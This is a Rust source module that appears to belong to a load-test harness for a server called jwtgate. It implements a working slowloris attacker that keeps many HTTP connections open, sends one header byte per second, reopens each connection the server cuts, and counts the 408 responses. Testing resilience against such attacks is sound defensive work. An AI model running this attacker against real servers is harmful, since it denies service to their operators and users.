//! Slow-header ("slowloris") connections: each sends a request line at once
//! (so protocol detection takes it for HTTP) and then one more byte of a
//! header field every second, never the blank line that ends the head. A
//! server without a header-read timeout holds every one of them for ever;
//! jwtgate answers 408 and closes after its timeout, and this attacker opens
//! a new connection in its place at once, so `conns` stay open.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{bail, Result};

use super::{connect_from, Worker};

/// How often the attacker looks at its connections.
const TICK: Duration = Duration::from_millis(200);
/// One more header byte per connection this often.
const TRICKLE: Duration = Duration::from_secs(1);
const CONNECT_TIMEOUT: Duration = Duration::from_millis(500);
/// New connections per tick at most, so a refusing server cannot stall the
/// loop that keeps the others alive.
const CONNECTS_PER_TICK: usize = 250;

/// What happened to the slow connections so far.
#[derive(Debug, Default)]
pub struct SlowHeadersStats {
    /// Connections open right now.
    pub open: AtomicU64,
    /// Connections opened in all.
    pub opened: AtomicU64,
    /// Connections the server ended (408, close or reset).
    pub cut: AtomicU64,
    /// Of those, how many got a `408` first.
    pub got_408: AtomicU64,
    /// Connects that failed (refused, timed out).
    pub connect_failures: AtomicU64,
}

/// The running attack; stopped (connections closed) on drop.
pub struct SlowHeaders {
    stats: Arc<SlowHeadersStats>,
    worker: Worker,
}

impl SlowHeaders {
    /// Keeps `conns` slow connections open from the network namespace at
    /// `netns` to `target`, spread over `sources` (addresses of that
    /// namespace). Raise `RLIMIT_NOFILE` first for more than ~1000.
    pub fn start(
        netns: &Path,
        sources: Vec<IpAddr>,
        target: SocketAddr,
        conns: usize,
    ) -> Result<Self> {
        if sources.is_empty() {
            bail!("slow headers: no source address");
        }
        let stats = Arc::new(SlowHeadersStats::default());
        let st = stats.clone();
        let worker = Worker::spawn("slow-headers", netns, move |stop| {
            run(stop, &sources, target, conns, &st);
            Ok(())
        })?;
        Ok(SlowHeaders { stats, worker })
    }

    pub fn stats(&self) -> &SlowHeadersStats {
        &self.stats
    }

    /// Waits (bounded) until `n` connections are open at once.
    pub fn wait_open(&self, n: u64, timeout: Duration) -> bool {
        let deadline = Instant::now() + timeout;
        while Instant::now() < deadline {
            if self.stats.open.load(Ordering::Relaxed) >= n {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    }

    /// Closes every connection and returns once the thread is gone.
    pub fn stop(mut self) -> Result<()> {
        self.worker.stop()
    }
}

struct Slot {
    stream: Option<TcpStream>,
    next_byte: Instant,
}

fn run(
    stop: &AtomicBool,
    sources: &[IpAddr],
    target: SocketAddr,
    conns: usize,
    st: &SlowHeadersStats,
) {
    let request_line = format!("GET /api/v1/products/0 HTTP/1.1\r\nHost: {target}\r\nX-Slow: ");
    let mut slots: Vec<Slot> = (0..conns)
        .map(|_| Slot {
            stream: None,
            next_byte: Instant::now(),
        })
        .collect();
    let mut buf = [0u8; 512];
    while !stop.load(Ordering::Relaxed) {
        let now = Instant::now();
        let mut connects = 0;
        for (i, slot) in slots.iter_mut().enumerate() {
            let Some(stream) = slot.stream.as_mut() else {
                if connects >= CONNECTS_PER_TICK {
                    continue;
                }
                connects += 1;
                match open(sources[i % sources.len()], target, &request_line) {
                    Some(s) => {
                        slot.stream = Some(s);
                        slot.next_byte = now + TRICKLE;
                        st.opened.fetch_add(1, Ordering::Relaxed);
                        st.open.fetch_add(1, Ordering::Relaxed);
                    }
                    None => {
                        st.connect_failures.fetch_add(1, Ordering::Relaxed);
                    }
                }
                continue;
            };
            // Anything the server says ends the connection for us: a 408, a
            // close, a reset.
            let ended = match stream.read(&mut buf) {
                Ok(0) => true,
                Ok(n) => {
                    if buf[..n].starts_with(b"HTTP/1.1 408") {
                        st.got_408.fetch_add(1, Ordering::Relaxed);
                    }
                    true
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => false,
                Err(_) => true,
            };
            let ended = ended
                || (now >= slot.next_byte && {
                    slot.next_byte = now + TRICKLE;
                    matches!(stream.write(b"a"), Err(e) if e.kind() != ErrorKind::WouldBlock)
                });
            if ended {
                slot.stream = None;
                st.cut.fetch_add(1, Ordering::Relaxed);
                st.open.fetch_sub(1, Ordering::Relaxed);
            }
        }
        std::thread::sleep(TICK.saturating_sub(now.elapsed()));
    }
    st.open.store(0, Ordering::Relaxed);
}

/// A new slow connection with its request line sent, non-blocking from then on.
fn open(source: IpAddr, target: SocketAddr, request_line: &str) -> Option<TcpStream> {
    let mut s = connect_from(source, target, CONNECT_TIMEOUT).ok()?;
    s.write_all(request_line.as_bytes()).ok()?;
    s.set_nonblocking(true).ok()?;
    Some(s)
}
